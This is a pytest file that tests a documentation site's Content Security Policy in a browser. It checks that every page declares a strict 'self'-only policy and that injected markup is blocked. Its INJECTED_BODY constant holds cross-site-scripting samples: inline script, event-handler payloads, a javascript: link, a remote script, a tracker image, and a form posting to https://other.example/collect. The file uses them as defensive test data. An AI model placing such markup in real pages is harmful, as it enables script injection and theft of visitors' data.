"""The Content Security Policy (macros/security_policy.py): every page carries it, no page needs
more than it allows, and markup injected into a page cannot run or load anything under it.

The browser checks load the site over http from 127.0.0.1 (sitecheck.server), as a reader gets
it: there 'self' is that one origin. Opened from disk (file://), Chromium counts every file: URL
as 'self'; the last test shows the site still works that way and still refuses inline script.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import PROJECT
from policy_probe import RECORD_VIOLATIONS, OtherHosts, policy_errors_in_console

from macros.security_policy import POLICY, content_security_policy


def html_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.head_first: tuple[str, dict] | None = None
        self.in_head = False
        self.tags: list[tuple[str, dict]] = []
        self.inline_scripts: list[str] = []
        self._script: dict | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        if tag == "head":
            self.in_head = True
        elif self.in_head and self.head_first is None:
            self.head_first = (tag, attributes)
        self.tags.append((tag, attributes))
        if tag == "script" and "src" not in attributes:
            self._script = attributes

    def handle_data(self, data):
        if self._script is not None and data.strip():
            self.inline_scripts.append(self._script.get("type", ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None


def test_the_policy_allows_the_site_itself_and_nothing_else():
    directives = dict(part.split(" ", 1) for part in content_security_policy().split("; "))
    assert directives == POLICY
    assert directives["default-src"] == "'none'"
    for directive in ("object-src", "base-uri", "form-action"):
        assert directives[directive] == "'none'"
    for directive in ("script-src", "style-src", "img-src", "connect-src"):
        assert directives[directive] == "'self'", directive
    policy = content_security_policy()
    for loose in ("unsafe-inline", "unsafe-eval", "unsafe-hashes", "data:", "*", "http"):
        assert loose not in policy


def test_only_mkdocs_serve_allows_its_live_reload_script():
    served = dict(part.split(" ", 1) for part in content_security_policy(serving=True).split("; "))
    assert served == {**POLICY, "script-src": "'self' 'unsafe-inline'"}


def test_every_page_declares_the_policy_before_anything_it_loads(built_site):
    wrong = []
    for path in html_pages(built_site):
        parser = _Page()
        parser.feed(path.read_text(encoding="utf-8"))
        first = parser.head_first
        if first != (
            "meta",
            {"http-equiv": "Content-Security-Policy", "content": content_security_policy()},
        ):
            wrong.append(f"{path.relative_to(built_site)}: {first}")
    assert wrong == []


def test_no_page_has_inline_script_style_or_event_handler(built_site):
    """The policy would block them; the site must not need them. JSON-LD is data, not script."""
    found = []
    for path in html_pages(built_site):
        parser = _Page()
        parser.feed(path.read_text(encoding="utf-8"))
        name = str(path.relative_to(built_site))
        found += [
            f"{name}: inline <script type={t!r}>"
            for t in parser.inline_scripts
            if t != "application/ld+json"
        ]
        for tag, attributes in parser.tags:
            found += [f"{name}: <{tag} {a}=...>" for a in attributes if a.startswith("on")]
            if "style" in attributes or tag == "style":
                found.append(f"{name}: <{tag}> style")
            source = attributes.get("src", "") if tag == "script" else ""
            if re.match(r"^[a-z]+:|^//", source):
                found.append(f"{name}: script from {source}")
    assert found == []


def test_no_form_can_send_anything(built_site):
    """form-action 'none' fits: every form on the site is filled in on screen and printed."""
    methods = set()
    for path in html_pages(built_site):
        parser = _Page()
        parser.feed(path.read_text(encoding="utf-8"))
        methods |= {
            (a.get("method", ""), a.get("action", "")) for tag, a in parser.tags if tag == "form"
        }
    assert methods == {("dialog", "")}


@pytest.mark.parametrize("javascript", [True, False], ids=["js-on", "js-off"])
def test_no_page_of_the_site_breaks_the_policy(browser, built_site, site_url, javascript):
    """Every page, loaded with JavaScript on (the scripts run: forms.js and deadlines.js each
    mark the page as 'js') and off: no violation event and no policy error in the console."""
    from sitecheck.server import page_urls

    other_hosts = OtherHosts()
    context = browser.new_context(java_script_enabled=javascript)
    other_hosts.watch(context)
    context.add_init_script(RECORD_VIOLATIONS)
    problems, scripted = [], set()
    try:
        page = context.new_page()
        console = policy_errors_in_console(page)
        for url in page_urls(built_site):
            console.clear()
            other_hosts.current_page = url
            page.goto(site_url + url, wait_until="load")
            problems += [f"{url}: {message}" for message in console]
            if javascript:
                problems += [f"{url}: {v}" for v in page.evaluate("window.__violations")]
                if page.evaluate("document.documentElement.classList.contains('js')"):
                    scripted.add(url)
    finally:
        context.close()
    assert problems == [] and other_hosts.announced == []
    if javascript:
        assert {"deadlines/", "forms/request-for-mediation-advice/"} <= scripted


# Markup that would run or load something, as if it had got past the escaping.
INJECTED_HEAD = '<base href="https://other.example/">'
INJECTED_BODY = """
<script>window.__ran.push('inline script'); alert('inline script')</script>
<script src="https://other.example/remote.js"></script>
<img src="no-such-image.png" onerror="window.__ran.push('onerror'); alert('onerror')">
<svg onload="window.__ran.push('svg onload'); alert('svg onload')"></svg>
<a id="sl-probe-link" href="javascript:window.__ran.push('javascript link');alert(1)">link</a>
<img src="https://other.example/tracker.png" alt="">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=" alt="">
<style>body { background: rgb(1, 2, 3) }</style>
<p id="sl-probe-styled" style="color: rgb(4, 5, 6)">styled</p>
<object data="https://other.example/plugin.swf"></object>
<form id="sl-probe-form" action="https://other.example/collect" method="post">
<input name="q" value="x"><button id="sl-probe-submit">Send</button></form>
"""
# The directive each of them breaks (Chromium reports a javascript: link as script-src-elem).
BROKEN_DIRECTIVES = {
    "script-src-elem",
    "script-src-attr",
    "img-src",
    "style-src-elem",
    "style-src-attr",
    "object-src",
    "base-uri",
    "form-action",
}


def _injected(page_html: str, with_policy: bool) -> str:
    html = page_html.replace("</head>", INJECTED_HEAD + "</head>", 1)
    html = html.replace("</body>", INJECTED_BODY + "</body>", 1)
    if not with_policy:
        html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    return html


def _open_injected(browser, site_url: str, html: str) -> dict:
    """Open the page (as if it were the site's home page), then follow the javascript: link and
    send the form: what ran, what left for other hosts and what the policy reported."""
    other_hosts = OtherHosts(current_page="injected")
    context = browser.new_context()
    other_hosts.watch(context)
    context.add_init_script(RECORD_VIOLATIONS)
    dialogs: list[str] = []
    try:
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.route(
            site_url + "injected.html",
            lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"),
        )
        page.goto(site_url + "injected.html", wait_until="load")
        styled = page.evaluate(
            "[getComputedStyle(document.body).backgroundColor,"
            " getComputedStyle(document.getElementById('sl-probe-styled')).color]"
        )
        # Clicked from script: a blocked navigation would keep Playwright's click waiting.
        page.evaluate("document.getElementById('sl-probe-link').click()")
        page.wait_for_timeout(200)
        ran = page.evaluate("window.__ran")
        violations = page.evaluate("window.__violations")
        page.evaluate("document.getElementById('sl-probe-form').requestSubmit()")
        page.wait_for_timeout(300)
        if page.url == site_url + "injected.html":
            violations = page.evaluate("window.__violations")
        return {
            "ran": ran,
            "dialogs": dialogs,
            "sent": other_hosts.sent(),
            "stopped": other_hosts.stopped(),
            "violated": {v.split(" ")[0] for v in violations},
            "styled": styled,
            "url": page.url,
        }
    finally:
        context.close()


def test_markup_injected_into_a_page_is_blocked_by_the_policy(browser, built_site, site_url):
    home = (built_site / "index.html").read_text(encoding="utf-8")

    blocked = _open_injected(browser, site_url, _injected(home, with_policy=True))

    assert blocked["ran"] == [] and blocked["dialogs"] == []
    assert blocked["sent"] == []
    assert set(blocked["stopped"]) == {
        "https://other.example/remote.js",
        "https://other.example/tracker.png",
    }
    assert "rgb(1, 2, 3)" not in blocked["styled"] and "rgb(4, 5, 6)" not in blocked["styled"]
    assert blocked["url"] == site_url + "injected.html"
    assert blocked["violated"] >= BROKEN_DIRECTIVES, BROKEN_DIRECTIVES - blocked["violated"]


def test_without_the_policy_the_same_markup_runs(browser, built_site, site_url):
    """The test above can fail: the same page without its policy runs and loads everything."""
    home = (built_site / "index.html").read_text(encoding="utf-8")

    unblocked = _open_injected(browser, site_url, _injected(home, with_policy=False))

    assert {"inline script", "onerror", "svg onload", "javascript link"} <= set(unblocked["ran"])
    assert unblocked["dialogs"] and unblocked["violated"] == set()
    assert any("other.example/tracker.png" in sent for sent in unblocked["sent"])
    assert "injected: https://other.example/collect" in unblocked["sent"]


def test_pages_opened_from_disk_load_the_sites_own_files_and_no_inline_script(
    browser, built_site, tmp_path
):
    """README.md says to open site/index.html: under file:// Chromium counts file: URLs as
    'self', so the site's CSS and scripts load with no violation; inline script is still
    refused. (The deadline page cannot fetch its dates from disk, policy or not: Chromium
    refuses fetch() of a file:// URL, so that page needs the site served.)"""
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    try:
        page = context.new_page()
        console = policy_errors_in_console(page)
        for url in ("index.html", "forms/request-for-mediation-advice/index.html"):
            page.goto((built_site / url).as_uri())
            assert page.evaluate("window.__violations") == []
            sheets = page.evaluate("[...document.styleSheets].map(s => s.href.split('/').pop())")
            assert "council.css" in sheets and "site.css" in sheets
        assert page.evaluate("document.documentElement.classList.contains('js')")
        assert console == []
        probe = tmp_path / "probe.html"
        probe.write_text(
            f'<!doctype html><html><head><meta http-equiv="Content-Security-Policy" '
            f'content="{content_security_policy()}"><title>x</title></head><body>'
            "<script>window.__ran.push('inline')</script></body></html>",
            encoding="utf-8",
        )
        page.goto(probe.as_uri())
        assert page.evaluate("window.__ran") == []
        assert page.evaluate("window.__violations") == ["script-src-elem inline"]
    finally:
        context.close()


def test_the_override_partials_replace_materials_inline_scripts():
    """Material includes its inline scripts outside any block, so overrides/ replaces the two
    partials: if Material renames them, the pages' inline-script check above fails."""
    import material

    theirs = Path(material.__file__).parent / "templates" / "partials" / "javascripts"
    ours = PROJECT / "overrides" / "partials" / "javascripts"
    for name in ("base.html", "content.html"):
        assert "<script>" in (theirs / name).read_text(encoding="utf-8")
        assert "<script" not in (ours / name).read_text(encoding="utf-8")
